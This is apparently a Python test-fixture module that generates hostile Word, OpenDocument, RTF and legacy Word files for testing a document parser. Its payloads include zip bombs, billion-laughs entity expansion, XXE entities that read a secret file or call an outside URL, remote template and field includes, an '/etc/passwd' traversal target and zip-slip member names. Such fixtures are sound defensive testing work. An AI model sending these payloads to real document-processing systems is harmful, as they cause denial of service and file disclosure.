"""Word, OpenDocument, rich text and old Word files that unfold, nest without end or reach out."""

import struct
from collections.abc import Mapping

from tests.documents.hostile.bombs import MEGABYTE, Outside, archive_of, archive_of_members, raw_deflate

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_O = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
)
_ODT = "application/vnd.oasis.opendocument.text"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = (
    f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="r1" Type="{_RELATIONS}/officeDocument" Target="word/document.xml"/></Relationships>'
)
_PARAGRAPH = "<w:p><w:r><w:t>Forklift driver</w:t></w:r></w:p>"
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<!DOCTYPE d [<!ENTITY l0 "ha">{_LAUGHS}]>'
QUADRATIC = f'<!DOCTYPE d [<!ENTITY l9 "{"ha" * 50_000}">]>'


def word(body: str, prolog: str = "", **parts: str) -> bytes:
    document = f"{prolog}<w:document {_W}><w:body>{body}</w:body></w:document>"
    others = {name.replace("__", "/").replace("_", "."): part for name, part in parts.items()}
    return archive_of({"word/document.xml": document, "_rels/.rels": _MAIN, **others})


def open_document(body: str, prolog: str = "", **parts: str) -> bytes:
    content = (
        f"{prolog}<office:document-content {_O}><office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )
    return archive_of({"mimetype": _ODT, "content.xml": content, **parts})


def _word(outside: Outside) -> dict[str, bytes]:
    file, url = outside.secret.as_uri(), outside.url
    start, end = f"<w:document {_W}><w:body>".encode(), b"</w:body></w:document>"
    bomb = raw_deflate(b" " * MEGABYTE, 1000)
    remote = "".join(
        f'<Relationship Id="r{n}" Type="{_RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
        for n, (kind, target) in enumerate(
            [
                ("image", url),
                ("attachedTemplate", url),
                ("aFChunk", file),
                ("header", file),
                ("header", "../../../../../../etc/passwd"),
                ("styles", url),
            ]
        )
    )
    relations = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{remote}</Relationships>'
    field = (
        f'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;{file}&quot;"/><w:r><w:instrText>INCLUDEPICTURE "{url}"</w:instrText></w:r></w:p>'
        f'<w:altChunk xmlns:r="{_RELATIONS}" r:id="r2"/><w:headerReference xmlns:r="{_RELATIONS}" r:id="r3"/>'
        f'<w:headerReference xmlns:r="{_RELATIONS}" r:id="r4"/>'
    )
    table = "<w:tbl><w:tr><w:tc>"
    return {
        "unfolds-to-1-gb": archive_of_members([(b"word/document.xml", bomb, 1000 * MEGABYTE)]),
        "unfolds-in-secret": archive_of_members([(b"word/document.xml", bomb, 100)]),
        "overlapping": archive_of_members(
            [(b"word/document.xml", raw_deflate(start + end, 1), len(start + end))] * 20_000, overlapping=True
        ),
        "many-parts": archive_of_members(
            [(b"word/document.xml", b"\x03\x00", 0), *((b"word/h%d.xml" % n, b"\x03\x00", 0) for n in range(60_000))]
        ),
        "many-bombs": archive_of_members(
            [
                (b"word/document.xml", raw_deflate(start + end, 1), len(start + end)),
                *((b"word/header%d.xml" % n, bomb, 10) for n in range(10)),
            ]
        ),
        "entities": word("<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", LAUGHS),
        "entities-quadratic": word("<w:p><w:r><w:t>" + "&l9;" * 10_000 + "</w:t></w:r></w:p>", QUADRATIC),
        "entity-of-a-file": word("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", f'<!DOCTYPE d [<!ENTITY x SYSTEM "{file}">]>'),
        "entity-of-a-server": word(
            "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", f'<!DOCTYPE d [<!ENTITY % y SYSTEM "{url}">%y;<!ENTITY x "a">]>'
        ),
        "outer-dtd": word(_PARAGRAPH, f'<!DOCTYPE d SYSTEM "{url}">'),
        "styles-with-entities": word(_PARAGRAPH, word__styles_xml=f"{LAUGHS}<w:styles {_W}>&l9;</w:styles>"),
        "remote-parts": word(field + _PARAGRAPH, word___rels__document_xml_rels=relations),
        "names-that-climb": archive_of(
            {
                "word/document.xml": f"<w:document {_W}><w:body>{_PARAGRAPH}</w:body></w:document>",
                "../../evil.txt": "x",
                "/tmp/evil.txt": "x",  # noqa: S108
            }
        ),
        "three-million-paragraphs": archive_of_members(
            [
                (
                    b"word/document.xml",
                    raw_deflate(start, 1)[:-2] + raw_deflate(b"<w:p/>" * 1000, 3000)[:-2] + raw_deflate(end, 1),
                    18 * MEGABYTE,
                )
            ]
        ),
        "deep-tables": word(table * 5000 + _PARAGRAPH + "</w:tc></w:tr></w:tbl>" * 5000),
        "deep-runs": word("<w:p>" + "<w:r>" * 100_000 + "</w:r>" * 100_000 + "</w:p>"),
        "deep-boxes": word("<w:p><w:r><w:txbxContent>" * 3000 + _PARAGRAPH + "</w:txbxContent></w:r></w:p>" * 3000),
        "wide-table": word("<w:tbl><w:tr>" + f"<w:tc>{_PARAGRAPH}</w:tc>" * 30_000 + "</w:tr></w:tbl>"),
        "many-attributes": word("<w:p " + " ".join(f'w:a{n}="1"' for n in range(100_000)) + "/>"),
        "long-name": word(f"<w:{'p' * 5 * MEGABYTE}/>"),
        "cut-xml": word(_PARAGRAPH)[:200] + b"PK\x05\x06" + bytes(18),
        "no-xml": archive_of({"word/document.xml": b"\x00\xff" * 5000}),
    }


def _open_document(outside: Outside) -> dict[str, bytes]:
    file, url = outside.secret.as_uri(), outside.url
    bomb = raw_deflate(b" " * MEGABYTE, 1000)
    sources = f'<text:section><text:section-source xlink:href="{file}"/></text:section><text:a xlink:href="{url}">home</text:a>'
    mimetype = (b"mimetype", raw_deflate(_ODT.encode(), 1), len(_ODT))
    items = 5000
    return {
        "unfolds-to-1-gb": archive_of_members([mimetype, (b"content.xml", bomb, 1000 * MEGABYTE)]),
        "entities": open_document("<text:p>&l9;</text:p>", LAUGHS),
        "entity-of-a-file": open_document("<text:p>&x;</text:p>", f'<!DOCTYPE d [<!ENTITY x SYSTEM "{file}">]>'),
        "outer-dtd": open_document("<text:p>a</text:p>", f'<!DOCTYPE d SYSTEM "{url}">'),
        "remote-parts": open_document(sources + "<text:p>Forklift driver</text:p>"),
        "two-billion-spaces": open_document('<text:p>a<text:s text:c="2000000000"/>b</text:p>'),
        "two-billion-columns": open_document(
            '<table:table><table:table-row table:number-rows-repeated="2000000000"><table:table-cell '
            'table:number-columns-repeated="2000000000"><text:p>a</text:p></table:table-cell></table:table-row></table:table>'
        ),
        "deep-lists": open_document("<text:list><text:list-item>" * items + "<text:p>a</text:p>" + "</text:list-item></text:list>" * items),
        "deep-spans": open_document("<text:p>" + "<text:span>" * 100_000 + "a" + "</text:span>" * 100_000 + "</text:p>"),
        "many-paragraphs": open_document("<text:p/>" * 500_000),
    }


def _rich_text(outside: Outside) -> dict[str, bytes]:
    file, url = outside.secret.as_uri().encode(), outside.url.encode()
    start = rb"{\rtf1\ansi "
    return {
        "deep-groups": start + b"{" * 500_000 + b"a" + b"}" * 500_000 + b"}",
        "deep-tables": start + rb"\trowd\intbl{\trowd\itap2\nestcell " * 20_000 + b"a",
        "endless-binary": start + rb"\bin2147483647 abc}",
        "negative-binary": start + rb"a\bin-5 b}",
        "long-word": start + b"\\" + b"a" * 5 * MEGABYTE + b"}",
        "long-number": start + rb"\par" + b"9" * MEGABYTE + b" a}",
        "unicode-skips": start + rb"\uc2147483647" + rb"\u1575?" * 100_000 + b"}",
        "fields": start
        + rb'{\field{\*\fldinst INCLUDETEXT "%s"}{\fldrslt }}{\field{\*\fldinst INCLUDEPICTURE "%s"}} Driver}' % (file, url),
        "template": start + rb"{\*\template %s}Driver}" % url,
        "object": start + rb"{\object\objemb{\*\objdata " + b"41" * MEGABYTE + b"}}Driver}",
        "picture": start + rb"{\pict\pngblip\picw999999999\pich999999999 " + b"89504e47" * 100_000 + b"}Driver}",
        "cut": start + rb"{\fonttbl{\f0 Times",
    }


_FREE, _END, _FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def ole(stream: str, fat: list[int], *, size: int = 100_000, first: int = 3, siblings: bool = False, sectors: int = 6) -> bytes:
    """A compound file with one stream (MS-CFB): header, FAT in sector 0, directory in sector 1."""
    header = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + struct.pack("<HHHHH6x", 0x3E, 3, 0xFFFE, 9, 6)
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, _END, 0, _END, 0) + struct.pack("<109I", 0, *[_FREE] * 108)
    table = struct.pack("<128I", *(fat + [_FREE] * 128)[:128])
    left = 1 if siblings else _FREE  # an entry that is its own sibling and its own child
    directory = _entry("Root Entry", 5, _FREE, 1, _END, 0) + _entry(stream, 2, left, left, first, size)
    return header + table + directory.ljust(512, b"\0") + b"\xa5\xec" * 256 * sectors


def _entry(name: str, kind: int, sibling: int, child: int, first: int, size: int) -> bytes:
    encoded = name.encode("utf-16-le")
    return (encoded + b"\0\0").ljust(64, b"\0") + struct.pack(
        "<HBBIII36xIQ", len(encoded) + 2, kind, 1, sibling, sibling, child, first, size
    )


def _old_word() -> dict[str, bytes]:
    chain = [_FAT, _END, _END]
    return {
        "chain-loop": ole("WordDocument", [*chain, 3], size=2**31),
        "chain-of-two": ole("WordDocument", [*chain, 4, 3], size=2**31),
        "directory-loop": ole("WordDocument", [_FAT, 1, _END, _END]),
        "siblings-loop": ole("WordDocument", [*chain, _END], siblings=True),
        "huge-stream": ole("WordDocument", [*chain, 4, 5, _END], size=2**62),
        "header-only": ole("WordDocument", chain)[:600] + "WordDocument".encode("utf-16-le"),
        "noise": ole("WordDocument", [*chain, 4, 5, 6, 7, _END], size=4096, sectors=2000),
    }


def files(outside: Outside) -> Mapping[str, bytes]:
    made = {"docx": _word(outside), "odt": _open_document(outside), "rtf": _rich_text(outside), "doc": _old_word()}
    return {f"{name}.{kind}": data for kind, group in made.items() for name, data in group.items()}
